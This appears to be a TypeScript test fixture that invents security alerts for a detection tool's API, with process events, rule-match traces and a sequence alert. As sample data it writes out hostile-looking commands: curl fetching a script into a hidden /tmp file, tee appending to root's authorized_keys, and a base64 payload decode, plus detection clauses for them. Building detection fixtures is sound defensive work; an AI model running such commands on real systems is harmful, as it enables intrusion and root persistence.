/** Invented alerts of an invented company, the same for the same seed: what the fixture of the API serves. */
import type { Alert, AlertStep, RuleDocument, RuleLanguage, Severity, TraceNode } from '../../src/serve/api.ts';
import { FIXTURE_RULES } from './fixture-rules.ts';

export interface FixtureAlert {
  readonly alert: Alert;
  readonly trace?: TraceNode;
  /** Of a sequence. */
  readonly steps?: readonly AlertStep[];
  readonly raw: string;
}

interface Story {
  readonly rule: number;
  readonly severity: Severity;
  readonly risk: number;
  readonly host: string;
  readonly user: string;
  readonly program: string;
  readonly args: readonly string[];
  /** The arguments that made the rule true. */
  readonly telling: readonly string[];
  readonly parents: readonly (readonly [pid: number, line: string])[];
  readonly reason: string;
}

const SSH_PARENTS = [
  [31320, '-bash'],
  [31302, 'sshd: svc-build@pts/0'],
  [1, '/usr/lib/systemd/systemd --system'],
] as const;
const CI_PARENTS = [[8812, '/opt/runner/bin/Runner.Worker spawnclient']] as const;

const STORIES: readonly Story[] = [
  {
    rule: 0,
    severity: 'medium',
    risk: 47,
    host: 'web-07',
    user: 'svc-build',
    program: '/usr/bin/python3.11',
    args: ['python3.11', '-m', 'http.server', '8099', '--directory', '/srv/exports'],
    telling: ['http.server'],
    parents: SSH_PARENTS,
    reason: 'svc-build started a web server on web-07 with python3.11, serving /srv/exports on port 8099',
  },
  {
    rule: 1,
    severity: 'high',
    risk: 73,
    host: 'web-07',
    user: 'svc-build',
    program: '/usr/bin/curl',
    args: ['curl', '-s', 'http://10.4.0.19/i.sh', '-o', '/tmp/.i'],
    telling: ['http://10.4.0.19/i.sh'],
    parents: SSH_PARENTS,
    reason: 'svc-build fetched a script into /tmp on web-07 with curl',
  },
  {
    rule: 2,
    severity: 'critical',
    risk: 92,
    host: 'db-02',
    user: 'www-data',
    program: '/usr/bin/tee',
    args: ['tee', '-a', '/root/.ssh/authorized_keys'],
    telling: ['/root/.ssh/authorized_keys'],
    parents: [],
    reason: 'www-data added to root’s SSH keys on db-02 with tee',
  },
  {
    rule: 0,
    severity: 'low',
    risk: 21,
    host: 'ci-11',
    user: 'runner',
    program: '/usr/bin/bash',
    args: ['bash', '-c', 'python3 -m http.server 8097'],
    telling: ['python3 -m http.server 8097'],
    parents: CI_PARENTS,
    reason: 'runner started a web server on ci-11 through bash, on port 8097',
  },
  {
    rule: 3,
    severity: 'low',
    risk: 21,
    host: 'ci-11',
    user: 'runner',
    program: '/usr/bin/base64',
    args: ['base64', '-d', 'payload.b64'],
    telling: ['-d'],
    parents: CI_PARENTS,
    reason: 'runner decoded payload.b64 on ci-11 with base64',
  },
  {
    rule: 4,
    severity: 'informational',
    risk: 5,
    host: 'dev-3',
    user: 'dev',
    program: '/usr/bin/tar',
    args: ['tar', 'czf', 'exports/db.tgz', '/var/lib/app'],
    telling: ['exports/db.tgz'],
    parents: SSH_PARENTS,
    reason: 'dev archived /var/lib/app on dev-3 with tar',
  },
];

/** `count` alerts, the newest a few minutes before `now` (epoch milliseconds), spread over a day. */
export function inventAlerts(count: number, now: number): FixtureAlert[] {
  const random = seededRandom(7);
  return Array.from({ length: count }, (_, index) => {
    const spread = count < 2 ? 0 : (index / count) * 23 * 3_600_000;
    return inventAlert(index, now - 180_000 - Math.floor(spread + random() * 300_000), index >= 20 && index % 3 === 0);
  });
}

export function inventAlert(index: number, time: number, sample = false): FixtureAlert {
  const story = STORIES[index % STORIES.length] as Story;
  const rule = FIXTURE_RULES[story.rule] as RuleDocument;
  const name = story.program.slice(story.program.lastIndexOf('/') + 1);
  const line = story.args.map((arg) => (arg.includes(' ') ? `"${arg}"` : arg)).join(' ');
  const at = new Date(time).toISOString();
  const event = {
    '@timestamp': at,
    event: {
      id: `e-${index}`,
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: ['exec', 'executed'],
      module: 'auditd',
      dataset: 'auditd_manager.auditd',
    },
    host: { name: story.host, os: { type: 'linux' } },
    user: { name: story.user, id: '1004' },
    process: {
      pid: 31331 + index,
      entity_id: `p-${index}`,
      name,
      executable: story.program,
      args: [...story.args],
      command_line: line,
      working_directory: '/srv',
    },
    log: { file: { path: '/var/log/audit/audit.log' }, offset: 4096 * index },
  };
  const alert: Alert = {
    id: index.toString(16).padStart(40, 'a'),
    '@timestamp': new Date(time + 900).toISOString(),
    rule: {
      id: rule.id,
      name: rule.name,
      ...(rule.version === undefined ? {} : { version: rule.version }),
      language: rule.language,
      author: rule.authors,
      ...(rule.license === undefined ? {} : { license: rule.license }),
      reference: rule.references,
    },
    severity: story.severity,
    risk_score: story.risk,
    threat: rule.threat,
    reason: story.reason,
    original_time: at,
    evidence: {
      fields: {
        'process.name': [{ value: name, ranges: [[0, Math.min(6, name.length)]] }],
        'process.args': story.telling.map((value) => ({ value, ranges: [[0, value.length] as const] })),
      },
    },
    ancestry: story.parents.map(([pid, command_line]) => ({ pid, command_line })),
    stands_in_for: ['logs-endpoint.events.process-vedette'],
    ...(sample ? { sample: true as const } : {}),
    events: [event],
  };
  const raw = `type=SYSCALL msg=audit(${time / 1000}:${index}): arch=c000003e syscall=59 success=yes exe="${story.program}"`;
  return { alert, trace: inventTrace(name, story, rule.language), raw };
}

/** The alert of a sequence: two events, and one that stayed away. Its id is `sequence`. */
export function inventSequenceAlert(time: number): FixtureAlert {
  const [server, script] = [inventAlert(0, time), inventAlert(1, time + 12_000)];
  const events = [server, script].flatMap(({ alert }) => alert.events);
  const found = [server, script].map(({ alert }) => alert.evidence.fields);
  const stepOf = (event: number, { alert, trace }: FixtureAlert, text: string): AlertStep => ({
    text,
    missing: false,
    event,
    sentence: alert.reason,
    time: alert.original_time,
    ...(trace === undefined ? {} : { trace }),
  });
  return {
    raw: [server.raw, script.raw].join('\n'),
    alert: {
      ...server.alert,
      id: 'sequence',
      reason: `${server.alert.reason}; 12 s later: ${script.alert.reason}`,
      original_time: script.alert.original_time,
      events,
      evidence: { fields: found[1] ?? {}, events: found },
      join_keys: ['web-07', null],
      shared: { host: { name: 'web-07' } },
    },
    steps: [
      stepOf(0, server, '[process where process.args == "http.server"]'),
      { text: '![process where process.name == "sudo"]', missing: true },
      stepOf(1, script, '[process where process.name == "curl"]'),
    ],
  };
}

function inventTrace(name: string, story: Story, language: RuleLanguage): TraceNode {
  return language === 'sigma' ? inventSigmaTrace(story) : inventQueryTrace(name, story);
}

const clause = (text: string, field: string, values: readonly string[], needed = true, result = true): TraceNode => ({
  kind: 'match-any',
  text,
  field,
  values,
  needed,
  result,
  children: [],
});
const group = (kind: string, children: TraceNode[], needed = true, result = true, text = kind): TraceNode => ({
  kind,
  text,
  needed,
  result,
  children,
});

/** As Sigma's lines stand in a rule: with their indentation from the second on, and a field that stands for several. */
function inventSigmaTrace({ program, telling, args }: Story): TraceNode {
  const source = 'category: process_creation\n  product: linux';
  const image = `Image|endswith:\n      - /${program.slice(program.lastIndexOf('/') + 1)}\n      - /busybox`;
  const line = `CommandLine|contains:\n      - ${telling[0] ?? ''}`;
  return group('and', [
    group(
      'and',
      [clause(source, 'event.category', ['process']), clause(source, 'host.os.type', ['linux'])],
      true,
      true,
      source,
    ),
    group(
      'or',
      [
        clause(image, 'process.executable', [program]),
        clause(image, 'process.name', [program.slice(program.lastIndexOf('/') + 1)], false, false),
      ],
      true,
      true,
      image,
    ),
    clause(line, 'process.command_line', [args.join(' ')]),
    group('not', [clause('User: backup', 'user.name', ['runner'], true, false)], true, true, 'not filter_backup'),
  ]);
}

function inventQueryTrace(name: string, story: Story): TraceNode {
  const list = story.telling.map((value) => JSON.stringify(value)).join(', ');
  return group('and', [
    clause('host.os.type == "linux"', 'host.os.type', ['linux']),
    clause('event.action in ("exec", "exec_event", "start")', 'event.action', ['exec', 'executed']),
    group('or', [
      group('and', [
        clause(`process.name like "${name.slice(0, 6)}*"`, 'process.name', [name]),
        clause(`process.args in (${list})`, 'process.args', story.args),
      ]),
      group(
        'and',
        [
          clause('process.name in ("bash", "dash", "sh")', 'process.name', [name], false, false),
          clause('process.command_line like~ "*python* -m http.server*"', 'process.command_line', [], false, false),
        ],
        false,
        false,
      ),
    ]),
  ]);
}

/** Mulberry32: enough to spread times, the same on every machine. */
function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
